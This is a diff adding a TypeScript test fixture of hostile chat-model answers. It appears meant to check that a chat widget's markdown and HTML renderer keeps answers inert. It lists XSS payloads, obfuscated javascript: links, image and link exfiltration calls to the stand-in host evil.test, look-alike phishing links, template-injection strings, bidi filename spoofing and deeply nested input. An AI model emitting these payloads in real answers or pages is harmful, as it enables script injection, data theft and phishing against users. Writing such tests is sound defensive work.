@@ -1,0 +1,48 @@
+const script = '<script>alert(1)</script>';
+const spaces = ['\t', '\n', '\0', '\u00a0', '\u200b', '\u2028', '\ufeff', '\u0001'];
+const schemes = ['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'blob', 'file', 'filesystem', 'intent', 'ms-settings', 'view-source', 'about', 'jar', 'ws', 'ftp', 'chrome', 'livescript', 'x-apple-helpbasic'];
+const hosts = ['//evil.test', '\\\\evil.test', '/\\evil.test', 'https:/evil.test', 'https:\\\\evil.test', 'https:evil.test', 'https://bank.test@evil.test', 'https://bank.test%2f@evil.test', 'https://bank.test\\@evil.test', 'https://[::1]', 'https://evil.test:99999', 'https://%65vil.test', 'http://evil.test\t/', 'https&#58;//evil.test', 'https://evil。test'];
+
+/** Answers that somebody wrote to do harm: what a model can be talked into. None may become more than text and links. */
+export const hostileAnswers: string[] = [
+  script,
+  `**${script}**`,
+  `\`\`\`html\n${script}\n\`\`\``,
+  `\`\`\`${script}" onload="alert(1)\nx\n\`\`\``,
+  `| ${script} | b |\n|---|---|\n| <img src=x onerror=alert(1)> | \`<svg onload=alert(1)>\` |`,
+  `- ${script}\n  - <iframe srcdoc="${script}">\n- [ ] <input autofocus onfocus=alert(1)>`,
+  `> ${script}\n> > <object data=data:text/html,x>`,
+  `# ${script}\n\n${script}\n===`,
+  '<img src="https://evil.test/?q=secret"><img srcset="https://evil.test/a 1x"><picture><source srcset=//evil.test/b></picture>',
+  '<link rel=preconnect href=//evil.test><link rel=dns-prefetch href=//evil.test><link rel=stylesheet href=//evil.test/a.css><meta http-equiv=refresh content="0;url=//evil.test">',
+  '<base href=//evil.test><form action=//evil.test><input type=image src=//evil.test/x><button formaction=javascript:alert(1)>',
+  '<video poster=//evil.test/p src=//evil.test/v><audio src=//evil.test/a><embed src=//evil.test/e><object data=//evil.test/o><track src=//evil.test/t>',
+  '<svg><use href="//evil.test/s#a"/><image href=//evil.test/i /><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1)></svg>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<style>@import "//evil.test/a.css"; * { background: url(//evil.test/b) }</style>',
+  '<div style="background:url(//evil.test/c);position:fixed;inset:0">over everything</div>',
+  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<a href=javascript:alert(1) id=location name=attributes class=launcher part=panel slot=header>a</a>',
+  '<!--><img src=x onerror=alert(1)>--><?xml-stylesheet href="javascript:alert(1)"?><![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<bailian-chat app="other" endpoint="//evil.test"></bailian-chat><script src=//evil.test/widget.js></script>',
+  '![a](https://evil.test/?secret) ![b][c] ![](//evil.test/x) ![d](data:image/svg+xml,<svg/onload=alert(1)>)\n\n[c]: https://evil.test/c',
+  '[![x](https://evil.test/in.png)](https://evil.test/out)',
+  '![a](https://cdn.test/redirect?to=https://evil.test) ![b](https://cdn.test/a/../../b.png) ![c](https://cdn.test/a%2f..%2fb.png)',
+  ...schemes.map((scheme) => `[a](${scheme}:alert(1)) [b](<${scheme}:alert(1)>) <${scheme}:alert(1)> [c]\n\n[c]: ${scheme}:alert(1) "t"`),
+  ...spaces.map((space) => `[a](java${space}script:alert(1)) [b](<java${space}script:alert(1)>) [c](${space}javascript:alert(1))`),
+  '[a](&#106;avascript:alert(1)) [b](&#x6A;avascript&colon;alert(1)) [c](java&Tab;script:alert(1)) [d](\\javascript:alert(1)) [e](%6aavascript:alert(1))',
+  ...hosts.map((host) => `[bank.test](${host}) <${host}> ${host}`),
+  '[https://bank.test](https://evil.test) [bаnk.test](https://evil.test) [`bank.test`](https://evil.test) [**bank**.test](https://evil.test)',
+  '[a](mailto:a@b.test?bcc=thief@evil.test&body=secret) [b](mailto:a@b.test,c@d.test) [c](tel:95187;ext=9;phone-context=evil.test) [d](tel:*%2306%23) <a@b.test>',
+  '`__proto__` [constructor] [__proto__][toString] [hasOwnProperty]\n\n```__proto__\nx\n```\n\n[__proto__]: https://shop.test "constructor"\n\n| __proto__ | constructor |\n|---|---|\n| toString | valueOf |',
+  'a\u202eb\u2066c\u{e0041}\u{e0042}\u200bd `e\u202ef` **g\u2069h**\n\n```\u202ejs\ni\u202ej\n```\n\n[k\u202el](https://evil.test/\u202egpj.exe) &#x202e;&#917569;&#8203;',
+  '<'.repeat(300) + '>'.repeat(300),
+  `${'['.repeat(200)}a${'](b)'.repeat(200)}`,
+  `${'> '.repeat(60)}a\n${'- '.repeat(60)}b\n${'*'.repeat(121)}c${'*'.repeat(121)}`,
+  `<${'a '.repeat(200)}${'x="'.repeat(100)}`,
+  '&#0;&#x110000;&#xd800;&#xFFFFFFFF;&constructor;&__proto__;\ud800 \udc00 \uffff',
+  `[ref]: javascript:alert(1)\n\n[ref] [a][ref] ![b][ref]\n\n[^1]: ${script}\n\nNote[^1]`,
+  '</div></div></section><section role=dialog>out of the panel</section>',
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
+  '\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007 \u009b31m',
+];
